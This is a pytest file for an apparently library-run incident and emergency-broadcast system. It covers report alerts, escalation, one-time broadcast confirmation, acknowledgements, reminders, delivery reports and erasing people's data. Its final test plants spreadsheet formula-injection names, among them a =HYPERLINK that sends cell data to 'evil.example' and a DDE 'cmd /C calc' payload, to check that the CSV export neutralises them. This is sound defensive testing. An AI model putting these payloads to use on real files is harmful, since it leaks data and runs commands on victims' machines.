"""The incident and broadcast rules, without Telegram: reports, taking, escalation, drafts,
confirmation exactly once, acknowledgements, reminders, reports and privacy."""

from __future__ import annotations

import datetime as dt
import random
from zoneinfo import ZoneInfo

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import func, select

from storage.db import Database, utcnow
from storage.incidents import (
    WHOLE_BUILDING,
    Acknowledgement,
    AckOutcome,
    Broadcast,
    BroadcastState,
    ConfirmOutcome,
    Incident,
    IncidentState,
    TakeOutcome,
    UnknownPlace,
    acknowledge,
    audience_counts,
    check_place,
    confirm_broadcast,
    delivery_stats,
    draft_allclear,
    draft_broadcast,
    escalate_overdue,
    finish_broadcast,
    forget_person,
    help_place,
    incident_report,
    list_incidents,
    open_emergencies,
    recipients_csv,
    remind_unanswered,
    report_incident,
    seed_demo,
    take_incident,
    template_text,
)
from storage.outbox import Delivery, DeliveryState
from storage.people import Reader, Role, User, add_staff
from storage.policy import Policy

TZ = ZoneInfo("Asia/Shanghai")
POLICY = Policy()
STAFF_CHAT = -1001
DUTY, STAFF, READER, VISITOR = 900, 901, 100, 200


@pytest.fixture
async def people(db: Database) -> Database:
    async with db.session() as s:
        await add_staff(s, DUTY, Role.DUTY_OFFICER, "Zhao Lei")
        await add_staff(s, STAFF, Role.STAFF, "Li Na")
        reader = Reader(card_number="C1", name="Reader", pin_hash="x")
        s.add(reader)
        await s.flush()
        s.add(User(telegram_id=READER, first_name="Ann", reader_id=reader.id))
        s.add(User(telegram_id=VISITOR, first_name="Bob"))
        s.add(User(telegram_id=DUTY, first_name="Zhao"))
        s.add(User(telegram_id=STAFF, first_name="Li"))
    return db


async def deliveries(db: Database, **where: object) -> list[Delivery]:
    async with db.session() as s:
        query = select(Delivery).order_by(Delivery.id)
        for key, value in where.items():
            query = query.where(getattr(Delivery, key) == value)
        return list(await s.scalars(query))


async def report(db: Database, now: dt.datetime, **kw: object) -> Incident:
    args: dict[str, object] = {
        "kind": "water", "place_code": "2F", "place_text": None, "photo_file_id": None, "reporter_id": VISITOR,
        "reporter_name": "Bob <b>", "policy": POLICY, "now": now, "tz": TZ, "staff_chat_id": STAFF_CHAT,
    }
    args.update(kw)
    async with db.session() as s:
        return await report_incident(s, **args)  # type: ignore[arg-type]


async def test_a_report_alerts_the_duty_officers_and_the_staff_chat(people: Database) -> None:
    incident = await report(people, utcnow())
    rows = await deliveries(people)
    assert sorted(r.chat_id for r in rows) == sorted([DUTY, STAFF_CHAT])
    assert all(r.text_key == "incidents.alert" and r.buttons == [[["incidents.btn_take", f"inc:take:{incident.id}"]]] for r in rows)
    assert rows[0].params["reporter"] == "Bob &lt;b&gt;"  # typed text is escaped for HTML
    assert rows[0].params["place"]["en"].startswith("2F")


async def test_unknown_places_and_kinds_are_refused(people: Database) -> None:
    with pytest.raises(UnknownPlace):
        await report(people, utcnow(), place_code="99F")
    with pytest.raises(ValueError):
        await report(people, utcnow(), kind="alien")
    assert check_place(POLICY, None, "  by the   lifts ") == (None, "by the lifts")
    assert check_place(POLICY, WHOLE_BUILDING, None) == (WHOLE_BUILDING, None)


async def test_the_first_to_take_a_report_wins_and_the_reporter_is_told(people: Database) -> None:
    now = utcnow()
    incident = await report(people, now)
    async with people.session() as s:
        first = await take_incident(s, incident.id, STAFF, "Li Na", now)
    async with people.session() as s:
        second = await take_incident(s, incident.id, DUTY, "Zhao Lei", now)
    async with people.session() as s:
        missing = await take_incident(s, 12345, DUTY, "Zhao Lei", now)
    assert first.outcome is TakeOutcome.TAKEN
    assert second.outcome is TakeOutcome.ALREADY and second.incident is not None and second.incident.handled_by_name == "Li Na"
    assert missing.outcome is TakeOutcome.NOT_FOUND
    told = await deliveries(people, chat_id=VISITOR)
    assert [r.text_key for r in told] == ["incidents.reporter_taken"]


async def test_escalation_once_after_the_deadline_to_every_staff_member(people: Database) -> None:
    now = utcnow()
    incident = await report(people, now)
    taken = await report(people, now, kind="power")
    async with people.session() as s:
        await take_incident(s, taken.id, STAFF, "Li Na", now)
    async with people.session() as s:
        assert await escalate_overdue(s, now + dt.timedelta(minutes=4), 5, POLICY, TZ) == []
    later = now + dt.timedelta(minutes=5, seconds=1)
    async with people.session() as s:
        assert await escalate_overdue(s, later, 5, POLICY, TZ) == [incident.id]
    async with people.session() as s:
        assert await escalate_overdue(s, later, 5, POLICY, TZ) == []  # a second run (or process) does nothing
    rows = await deliveries(people, text_key="incidents.escalation")
    assert sorted(r.chat_id for r in rows) == [DUTY, STAFF]


def test_templates_fill_the_place_and_the_local_time() -> None:
    at = dt.datetime(2026, 3, 1, 2, 5, tzinfo=dt.UTC)
    zh, en = template_text(POLICY, "fire", "3F", None, at, TZ)
    assert "三层" in zh and "10:05" in zh
    assert "3F" in en and "10:05" in en
    zh, en = template_text(POLICY, "evacuation", WHOLE_BUILDING, None, at, TZ)
    assert POLICY.library.name_zh in zh and POLICY.library.name_en in en
    zh, en = template_text(POLICY, "other", None, "east gate", at, TZ)
    assert "east gate" in zh and "east gate" in en


async def draft(db: Database, audience: str = "all", *, drill: bool = False, by: int = DUTY) -> Broadcast:
    async with db.session() as s:
        return await draft_broadcast(
            s, emergency_type="fire", drill=drill, place_code="1F", place_text=None, audience=audience,
            text_zh="火警 <测试>", text_en="Fire <test>", created_by=by, now=utcnow(), policy=POLICY,
        )


async def test_audiences_and_their_counts(people: Database) -> None:
    async with people.session() as s:
        assert await audience_counts(s) == {"all": 4, "readers": 1, "staff": 2}


async def test_confirming_twice_sends_one_broadcast(people: Database) -> None:
    broadcast = await draft(people)
    assert broadcast.recipients == 4
    async with people.session() as s:
        first = await confirm_broadcast(s, broadcast.id, DUTY, utcnow())
    async with people.session() as s:
        second = await confirm_broadcast(s, broadcast.id, DUTY, utcnow())
    assert first.outcome is ConfirmOutcome.SENT and second.outcome is ConfirmOutcome.ALREADY
    rows = await deliveries(people, broadcast_id=broadcast.id)
    assert sorted(r.chat_id for r in rows) == sorted([DUTY, STAFF, READER, VISITOR])
    staff_rows = [r for r in rows if r.chat_id in (DUTY, STAFF)]
    assert all(r.text_key == "broadcast.message_staff" and r.buttons for r in staff_rows)
    assert all(r.priority == 0 and r.kind == "broadcast" for r in rows)
    assert rows[0].params["text"] == {"zh": "火警 &lt;测试&gt;", "en": "Fire &lt;test&gt;"}
    async with people.session() as s:
        acks = await s.scalar(select(func.count()).select_from(Acknowledgement))
        incidents = await open_emergencies(s)
    assert acks == 2 and len(incidents) == 1 and incidents[0].kind == "fire"


async def test_only_the_author_confirms_a_draft(people: Database) -> None:
    broadcast = await draft(people)
    async with people.session() as s:
        result = await confirm_broadcast(s, broadcast.id, STAFF, utcnow())
    async with people.session() as s:
        missing = await confirm_broadcast(s, 999, DUTY, utcnow())
    assert result.outcome is ConfirmOutcome.NOT_YOURS and missing.outcome is ConfirmOutcome.NOT_FOUND
    assert await deliveries(people) == []


async def test_a_drill_is_marked_and_kept_apart(people: Database) -> None:
    broadcast = await draft(people, "staff", drill=True)
    async with people.session() as s:
        await confirm_broadcast(s, broadcast.id, DUTY, utcnow())
    rows = await deliveries(people, broadcast_id=broadcast.id)
    assert all(r.params["drill"] == {"t": "broadcast.drill_mark"} for r in rows)
    async with people.session() as s:
        assert [i.drill for i in await list_incidents(s, drills=True)] == [True]
        assert await list_incidents(s, drills=False) == []


async def test_acknowledgements_need_help_and_non_recipients(people: Database) -> None:
    broadcast = await draft(people)
    now = utcnow()
    async with people.session() as s:
        await confirm_broadcast(s, broadcast.id, DUTY, now)
    async with people.session() as s:
        help_ = await acknowledge(s, broadcast.id, STAFF, "help", now)
    async with people.session() as s:
        again = await acknowledge(s, broadcast.id, STAFF, "help", now)
    async with people.session() as s:
        stranger = await acknowledge(s, broadcast.id, READER, "safe", now)
    assert help_.outcome is AckOutcome.RECORDED and help_.alerted and not again.alerted
    assert stranger.outcome is AckOutcome.NOT_RECIPIENT
    alerts = await deliveries(people, text_key="broadcast.help_alert")
    assert [r.chat_id for r in alerts] == [DUTY] and alerts[0].params["name"] == "Li Na"
    async with people.session() as s:
        assert await help_place(s, broadcast.id, STAFF, "3F", POLICY)
        assert not await help_place(s, broadcast.id, DUTY, "3F", POLICY)  # did not ask for help
        with pytest.raises(UnknownPlace):
            await help_place(s, broadcast.id, STAFF, "nowhere", POLICY)
    assert len(await deliveries(people, text_key="broadcast.help_place")) == 1


async def test_silent_staff_are_reminded_once_and_listed(people: Database) -> None:
    broadcast = await draft(people)
    now = utcnow()
    async with people.session() as s:
        await confirm_broadcast(s, broadcast.id, DUTY, now)
    async with people.session() as s:
        await acknowledge(s, broadcast.id, DUTY, "safe", now)
    async with people.session() as s:
        assert await remind_unanswered(s, now + dt.timedelta(minutes=9), 10) == []
    async with people.session() as s:
        assert await remind_unanswered(s, now + dt.timedelta(minutes=10), 10) == [broadcast.id]
    async with people.session() as s:
        assert await remind_unanswered(s, now + dt.timedelta(minutes=20), 10) == []
    assert [r.chat_id for r in await deliveries(people, text_key="broadcast.ack_reminder")] == [STAFF]
    listed = await deliveries(people, text_key="broadcast.unanswered")
    assert [r.chat_id for r in listed] == [DUTY] and "Li Na" in listed[0].params["names"]


async def test_allclear_goes_to_the_same_people_and_closes_the_incident(people: Database) -> None:
    broadcast = await draft(people, "readers")
    now = utcnow()
    async with people.session() as s:
        sent = await confirm_broadcast(s, broadcast.id, DUTY, now)
    assert sent.broadcast is not None and sent.broadcast.incident_id is not None
    incident_id = sent.broadcast.incident_id
    async with people.session() as s:
        s.add(User(telegram_id=300))  # started the bot after the alert: not in the same audience
    async with people.session() as s:
        clear = await draft_allclear(s, incident_id, DUTY, now, POLICY, TZ)
    assert clear is not None and clear.recipients == 1
    async with people.session() as s:
        done = await confirm_broadcast(s, clear.id, DUTY, now)
    assert done.outcome is ConfirmOutcome.SENT
    rows = await deliveries(people, broadcast_id=clear.id)
    assert [r.chat_id for r in rows] == [READER] and rows[0].buttons is None
    async with people.session() as s:
        assert (await s.get(Incident, incident_id)).state == IncidentState.CLOSED  # type: ignore[union-attr]
        assert await open_emergencies(s) == []
        assert await draft_allclear(s, incident_id, DUTY, now, POLICY, TZ) is None
        # a second all-clear drafted before the first was sent cannot be sent any more
    async with people.session() as s:
        stale = Broadcast(
            incident_id=incident_id, purpose="allclear", emergency_type="fire", audience="same", text_zh="x",
            text_en="y", created_by=DUTY, created_at=now,
        )
        s.add(stale)
    async with people.session() as s:
        assert (await confirm_broadcast(s, stale.id, DUTY, now)).outcome is ConfirmOutcome.INCIDENT_CLOSED


async def test_delivery_report_counts_rate_and_time_to_90_percent(people: Database) -> None:
    broadcast = await draft(people)
    start = utcnow()
    async with people.session() as s:
        await confirm_broadcast(s, broadcast.id, DUTY, start)
    rows = await deliveries(people, broadcast_id=broadcast.id)
    async with people.session() as s:
        for n, row in enumerate(rows):
            stored = await s.get(Delivery, row.id)
            assert stored is not None
            stored.state = DeliveryState.SENT if n < 3 else DeliveryState.UNREACHABLE
            stored.sent_at = start + dt.timedelta(seconds=n + 1) if n < 3 else None
    async with people.session() as s:
        b = await s.get(Broadcast, broadcast.id)
        assert b is not None
        stats = await delivery_stats(s, b, start + dt.timedelta(seconds=4))
        assert await finish_broadcast(s, broadcast.id, start + dt.timedelta(seconds=5))
    assert (stats.total, stats.sent, stats.unreachable, stats.pending) == (4, 3, 1, 0)
    assert stats.time_to_90 is None  # 3 of 4 delivered: 90 % never reached
    assert stats.rate == pytest.approx(3 / 4)
    async with people.session() as s:
        report = await incident_report(s, b.incident_id)  # type: ignore[arg-type]
        csv_bytes = await recipients_csv(s, broadcast.id, TZ)
    assert report is not None and report.broadcasts[0].acks.recipients == 2
    lines = csv_bytes.decode("utf-8-sig").splitlines()
    assert lines[0].startswith("telegram_id,name") and len(lines) == 5
    assert any("Zhao Lei" in line and ",sent," in line for line in lines)
    assert any("Li Na" in line and ",unreachable," in line for line in lines)


async def test_forget_person_erases_them_from_incidents(people: Database) -> None:
    incident = await report(people, utcnow(), place_code=None, place_text="Bob's desk", photo_file_id="PHOTO")
    broadcast = await draft(people)
    async with people.session() as s:
        await confirm_broadcast(s, broadcast.id, DUTY, utcnow())
    async with people.session() as s:
        await forget_person(s, VISITOR)
        await forget_person(s, STAFF)
    async with people.session() as s:
        kept = await s.get(Incident, incident.id)
        acks = list(await s.scalars(select(Acknowledgement.staff_id)))
    assert kept is not None and kept.reporter_id is None and kept.reporter_name is None
    assert kept.photo_file_id is None and kept.place_text == "—"
    assert acks == [DUTY]
    for row in await deliveries(people, text_key="incidents.alert"):  # the staff's copies of the alert
        assert "Bob" not in str(row.params) and row.photo_file_id is None


async def test_demo_seed(people: Database) -> None:
    async with people.session() as s:
        await seed_demo(s, POLICY, utcnow(), random.Random(1), [READER])
    async with people.session() as s:
        drills = await list_incidents(s, drills=True)
        report = await incident_report(s, drills[0].id)
    assert report is not None and report.broadcasts[0].stats.sent == 3
    assert report.broadcasts[0].broadcast.state == BroadcastState.DONE


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=st.text(max_size=300))
def test_free_text_places_are_single_line_bounded_and_never_unknown(text: str) -> None:
    code, cleaned = check_place(POLICY, None, text)
    assert code is None
    assert cleaned is None or (len(cleaned) <= 200 and "\n" not in cleaned and cleaned == cleaned.strip())


async def test_the_recipients_csv_never_holds_a_formula(people: Database) -> None:
    """Telegram names such as =HYPERLINK(…) are written so that no spreadsheet runs them (#13)."""
    import csv as csv_module
    import io

    evil = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\tx", "\r=1"]
    async with people.session() as s:
        for n, name in enumerate(evil):
            s.add(User(telegram_id=5000 + n, first_name=name))
    broadcast = await draft(people)
    async with people.session() as s:
        await confirm_broadcast(s, broadcast.id, DUTY, utcnow())
        data = await recipients_csv(s, broadcast.id, TZ)
    rows = list(csv_module.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    names = [row[1] for row in rows[1:]]
    assert sorted(n for n in names if n.startswith("'")) == sorted("'" + name for name in evil)
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
